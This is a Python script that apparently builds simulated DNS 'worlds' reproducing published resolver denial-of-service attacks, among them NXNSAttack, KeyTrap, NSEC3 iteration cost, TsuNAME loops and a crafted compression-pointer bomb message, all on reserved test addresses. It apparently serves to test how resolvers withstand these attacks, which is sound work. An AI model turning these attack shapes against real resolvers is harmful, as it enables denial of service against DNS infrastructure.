#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Worlds whose owners want to cost those who resolve and validate their names as much as can be.

hostile.py            the attacks, one a line: name, what is asked, what it is
hostile.py NAME       the world of that attack, for `dsfi world run`

Each world has a root and a top-level domain, both signed, and zones of an attacker below it. They
follow published attacks in shape and, where it is known, in size; no address and no name is real.
"""
import struct
import sys

EVIL = ["198.18.6.%d" % i for i in range(1, 9)]
VICTIM = "198.18.7.1"
ANSWER = "192.0.2.1"
BOMB_ENDS = 1500


class World:
    """Text of a world file: servers, operators, zones, canned conversations."""

    def __init__(self, servers=1, signed="", hostile="", records=(), zones=()):
        """`servers` of the attacker; `signed` and `hostile` of the zone evil.tld."""
        self.evil = EVIL[:servers]
        zone = "name: evil.tld, operator: evil"
        zone += ", signed: %s" % signed if signed else ""
        zone += ", hostile: {%s}" % hostile if hostile else ""
        zone += ", records: \"%s\"" % "\\n".join(records) if records else ""
        self.zones = [zone, *zones]
        self.canned = []

    def reply(self, name, reply, transport="any", at=None, kind="any"):
        """The same reply from all servers of the attacker, or from one address."""
        for address in [at] if at else self.evil:
            self.canned.append("  - {at: %s, name: '%s', type: %s, transport: %s, replies: [{%s}]}" % (
                address, name, kind, transport, reply))

    def refer(self, zone, servers, glue=(), at=None):
        """A referral for the zone and all that is below it."""
        lines = ["%s. 3600 IN NS %s." % (zone, server) for server in servers]
        reply = 'authority: "%s"' % "\\n".join(lines)
        if glue:
            reply += ', additional: "%s"' % "\\n".join(
                "%s. 3600 IN A %s" % pair for pair in glue)
        self.reply(zone, reply, at=at)
        self.reply("*." + zone, reply, at=at)

    def text(self):
        names = ["ns%d.evil.tld" % (i + 1) for i in range(len(self.evil))]
        return "\n".join([
            "world: 1", "seed: 11", "servers:",
            "  - {name: a.root-servers.net, addresses: [198.41.0.4]}",
            "  - {name: a.nic.tld, addresses: [198.18.0.1]}",
            "  - {name: ns.victim.tld, addresses: [%s]}" % VICTIM,
            *("  - {name: %s, addresses: [%s]}" % pair for pair in zip(names, self.evil)),
            "operators:",
            "  - {name: root, servers: [a.root-servers.net]}",
            "  - {name: nic, servers: [a.nic.tld]}",
            "  - {name: victim, servers: [ns.victim.tld]}",
            "  - {name: evil, servers: [%s]}" % ", ".join(names),
            "zones:",
            "  - {name: ., operator: root, signed: 13 nsec}",
            "  - {name: tld, operator: nic, signed: 13 nsec}",
            "  - {name: nic.tld, operator: nic}",
            "  - {name: victim.tld, operator: victim}",
            *("  - {%s}" % zone for zone in self.zones),
            *(["canned:"] if self.canned else []), *self.canned, ""])


# ---- delegations ----

def nxns():
    """NXNSAttack (CVE-2020-8616): 90 name servers without addresses, in a victim's zone."""
    world = World()
    world.refer("nx.evil.tld", ["n%d.victim.tld" % i for i in range(90)])
    return world


def nrdelegation():
    """NRDelegation (CVE-2022-3204): 90 name servers behind delegations that nobody answers."""
    world = World()
    world.refer("nr.evil.tld", ["n.d%d.victim.tld" % i for i in range(90)])
    for i in range(90):
        zone = "d%d.victim.tld" % i
        world.refer(zone, ["s." + zone], [("s." + zone, "198.18.8.%d" % (i % 4))], at=VICTIM)
    return world


def nrdelegation_refused():
    """The same, and whoever is asked there refuses at once."""
    world = World()
    world.refer("nr.evil.tld", ["n.d%d.victim.tld" % i for i in range(90)])
    for i in range(90):
        zone = "d%d.victim.tld" % i
        world.refer(zone, ["s." + zone], [("s." + zone, "198.18.8.%d" % i)], at=VICTIM)
    for i in range(90):
        world.reply("*.victim.tld", "rcode: REFUSED", at="198.18.8.%d" % i)
    return world


def tsuname():
    """TsuNAME: two zones with ten name servers each, every one of them in the other zone."""
    world = World()
    for zone, other in ("a", "b"), ("b", "a"):
        world.refer(zone + ".evil.tld", ["n%d.%s.evil.tld" % (i, other) for i in range(10)])
    return world


def tsuname_ring():
    """The same with a ring of forty zones, three name servers each."""
    world = World()
    for zone in range(40):
        world.refer("r%d.evil.tld" % zone,
                    ["n.r%d.evil.tld" % ((zone + i) % 40) for i in (1, 2, 3)])
    return world


def fading():
    """Eight servers, each of a zone below the last one's, answer one question and then no more."""
    world = World(servers=8)
    zone = "evil.tld"
    for i, address in enumerate(world.evil[1:], 1):
        below = "z%d.%s" % (i, zone)
        referral = 'authority: "%s. 60 IN NS ns.%s.", additional: "ns.%s. 60 IN A %s"' % (
            below, below, below, address)
        server = [world.evil[i - 1]] if i > 1 else world.evil
        for at in server:
            world.canned += ["  - {at: %s, name: '%s', replies: [{%s}, {silent: true}]}" % (
                at, name, referral) for name in (below, "*." + below)]
        zone = below
    world.reply("*." + zone, "silent: true", at=address)
    return world


def delegate(world, zone, depth, fan_out):
    """Name servers of name servers of ...: at the end a server that refuses."""
    if depth == 0:
        world.refer(zone, ["ns." + zone], [("ns." + zone, "198.18.8.1")])
        return
    names = []
    for i in range(fan_out):
        below = "%s%d.evil.tld" % (zone.split(".")[0], i)
        names.append("ns." + below)
        delegate(world, below, depth - 1, fan_out)
    world.refer(zone, names)


def camp():
    """CAMP in its simplest form: a chain of 17 aliases, each in a zone that is delegated four deep."""
    world = World()
    for i in range(17):
        delegate(world, "c%d" % i + ".evil.tld", 3, 3)
        world.reply("w%d.evil.tld" % i,
                    'flags: [aa], answer: "w%d.evil.tld. 60 IN CNAME w.c%d.evil.tld."' % (i, i))
    world.reply("*.evil.tld", "rcode: REFUSED", at="198.18.8.1")
    return world


def camp_aliases():
    """The same when every zone answers in the end, with the next alias."""
    world = World()
    for i in range(17):
        zone = "c%d.evil.tld" % i
        names = []
        for j in range(8):
            below = "c%dx%d.evil.tld" % (i, j)
            names.append("ns." + below)
            world.refer(below, ["ns." + below], [("ns." + below, "198.18.8.1")])
            world.reply("ns." + below, 'flags: [aa], answer: "ns.%s. 60 IN A 198.18.8.1"' % below,
                        at="198.18.8.1")
        world.refer(zone, names)
        world.reply("w." + zone, 'flags: [aa], answer: "w.%s. 60 IN CNAME w.c%d.evil.tld."' % (
            zone, i + 1), at="198.18.8.1")
        world.reply(zone, "flags: [aa]", at="198.18.8.1")
    return world


# ---- signatures ----

def keytrap():
    """KeyTrap (CVE-2023-50387): 80 keys of one tag (P-256), 80 bad signatures before the good one."""
    return World(servers=3, signed="13 nsec", hostile="keys: 80, signatures: 80",
                 records=["w.evil.tld. 60 IN A " + ANSWER])


def keytrap_p384():
    """The same with four keys of the dearest curve, P-384, and 150 bad signatures."""
    return World(servers=3, signed="14 nsec", hostile="keys: 3, signatures: 150",
                 records=["w.evil.tld. 60 IN A " + ANSWER])


def keytrap_rsa():
    """The same with RSA: three more keys of 4096 bits, exponents of 64, and 80 bad signatures."""
    return World(servers=3, signed="8 nsec 4096", hostile="keys: 3, signatures: 80",
                 records=["w.evil.tld. 60 IN A " + ANSWER])


def keytrap_aliases():
    """Seven aliases, each with as many bad signatures as one message may have: three keys, 30."""
    aliases = ["w%s.evil.tld. 60 IN CNAME w%d.evil.tld." % (i or "", i + 1) for i in range(7)]
    return World(servers=3, signed="13 nsec", hostile="keys: 3, signatures: 30",
                 records=aliases + ["w7.evil.tld. 60 IN A " + ANSWER])


def keytrap_keys():
    """KeyTrap over the DNSKEY set itself: 80 keys, 80 bad signatures."""
    return World(servers=3, signed="13 nsec", hostile="keys: 80, key-signatures: 80",
                 records=["w.evil.tld. 60 IN A " + ANSWER])


def keytrap_ds():
    """HashTrap: 250 DS times 250 DNSKEY of one tag."""
    return World(servers=3, signed="13 nsec", hostile="keys: 250, ds: 250",
                 records=["w.evil.tld. 60 IN A " + ANSWER])


# ---- hashes ----

def nsec3_150():
    """NSEC3 cost (CVE-2023-50868): 150 iterations, a salt of 255 octets, a name of 35 labels."""
    return World(servers=3, signed="13 nsec3", hostile="iterations: 150, salt: 255")


def nsec3_500():
    """The same with 500 iterations and a name of 30 labels."""
    return World(servers=3, signed="13 nsec3", hostile="iterations: 500, salt: 255")


def nsec3_2500():
    """The same with 2,500 iterations, the most that RFC 5155 allows."""
    return World(servers=3, signed="13 nsec3", hostile="iterations: 2500, salt: 255")


# ---- messages ----

def large():
    """An RRset of 3,800 addresses: 61 KiB over TCP."""
    return World(signed="13 nsec", records=[
        "w.evil.tld. 60 IN A 192.0.%d.%d" % (i // 256, i % 256) for i in range(3800)])


def large_bad():
    """3,500 addresses and 40 bad signatures before the good one: 56 KiB to be hashed for each."""
    return World(servers=3, signed="13 nsec", hostile="signatures: 40", records=[
        "w.evil.tld. 60 IN A 192.0.%d.%d" % (i // 256, i % 256) for i in range(3500)])


def large_ns():
    """A referral with 3,000 name servers over TCP."""
    world = World()
    world.refer("n.evil.tld", ["%x.victim.tld" % i for i in range(3000)])
    return world


def drip():
    """One octet every 300 ms over TCP, from three servers."""
    world = World(servers=3)
    reply = 'flags: [aa], answer: "w.evil.tld. 60 IN TXT \'%s\'"' % ("x" * 200)
    world.reply("w.evil.tld", "flags: [tc]", transport="udp")
    world.reply("w.evil.tld", reply + ", drip_ms: 300", transport="tcp")
    return world


def wire(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def bomb_message(name, hops):
    """SERVFAIL full of NS records; each of their names is `hops` pointers away from its end."""
    message = bytearray(struct.pack(">HHHHHH", 0, 0x8402, 1, 0, 0, 0))
    message += wire(name) + struct.pack(">HH", 1, 1)
    # All lies in the data of a record of no known type. First a chain: a label, and a pointer to
    # what was written last. Then ends that lead there, so many that nobody knows them all by heart.
    message += struct.pack(">HHHIH", 0xc00c, 65280, 1, 60, 4 * (hops - 1 + BOMB_ENDS))
    last = 12 + len(wire(name)) - 1  # the root, where the question's name ends
    for _ in range(hops - 1):
        message += b"\1a" + struct.pack(">H", 0xc000 | last)
        last = len(message) - 4
    ends = []
    for _ in range(BOMB_ENDS):
        ends.append(len(message))
        message += b"\1b" + struct.pack(">H", 0xc000 | last)
    count = 1
    while len(message) + 14 <= 65535:
        owner, target = (ends[(2 * count + i) % len(ends)] for i in (0, 1))
        message += struct.pack(">HHHIHH", 0xc000 | owner, 2, 1, 60, 2, 0xc000 | target)
        count += 1
    struct.pack_into(">H", message, 6, count)
    return bytes(message)


def bomb(message):
    world = World(servers=8)
    world.reply("w.evil.tld", "flags: [tc]", transport="udp", kind="A")
    world.reply("w.evil.tld", "raw: '%s'" % message.hex(), transport="tcp", kind="A")
    world.reply("w.evil.tld", "flags: [aa]")
    return world


def bomb_chain():
    """64 KiB with 4,200 records, their names 126 pointers away from their ends; from eight servers."""
    return bomb(bomb_message("w.evil.tld", 126))


def bomb_long():
    """The same with 200 pointers, which makes the names longer than any name may be."""
    message = bomb_message("w.evil.tld", 200)
    return bomb(message)


# name: what makes the world, what is asked
ATTACKS = {
    "nxns": (nxns, "w.nx.evil.tld"),
    "nrdelegation": (nrdelegation, "w.nr.evil.tld"),
    "nrdelegation-refused": (nrdelegation_refused, "w.nr.evil.tld"),
    "tsuname": (tsuname, "w.a.evil.tld"),
    "tsuname-ring": (tsuname_ring, "w.r0.evil.tld"),
    "fading": (fading, "w.z7.z6.z5.z4.z3.z2.z1.evil.tld"),
    "camp": (camp, "w0.evil.tld"),
    "camp-aliases": (camp_aliases, "w.c0.evil.tld"),
    "keytrap": (keytrap, "w.evil.tld"),
    "keytrap-p384": (keytrap_p384, "w.evil.tld"),
    "keytrap-rsa": (keytrap_rsa, "w.evil.tld"),
    "keytrap-aliases": (keytrap_aliases, "w.evil.tld"),
    "keytrap-keys": (keytrap_keys, "w.evil.tld"),
    "keytrap-ds": (keytrap_ds, "w.evil.tld"),
    "nsec3-150": (nsec3_150, ".".join("abcdefghijklmnopqrstuvwxyz0123456") + ".evil.tld"),
    "nsec3-500": (nsec3_500, ".".join("abcdefghijklmnopqrstuvwxyz01") + ".evil.tld"),
    "nsec3-2500": (nsec3_2500, ".".join("abcdefghijklmnopqrstuvwxyz0123456") + ".evil.tld"),
    "large": (large, "w.evil.tld"),
    "large-bad": (large_bad, "w.evil.tld"),
    "large-ns": (large_ns, "w.n.evil.tld"),
    "drip": (drip, "w.evil.tld"),
    "bomb-chain": (bomb_chain, "w.evil.tld"),
    "bomb-long": (bomb_long, "w.evil.tld"),
}


def main():
    if len(sys.argv) == 1:
        for name, (make, asked) in ATTACKS.items():
            print("%s\t%s\t%s" % (name, asked, make.__doc__))
        return 0
    if len(sys.argv) != 2 or sys.argv[1] not in ATTACKS:
        print("usage: hostile.py [NAME]", file=sys.stderr)
        return 2
    sys.stdout.write(ATTACKS[sys.argv[1]][0]().text())
    return 0


if __name__ == "__main__":
    sys.exit(main())
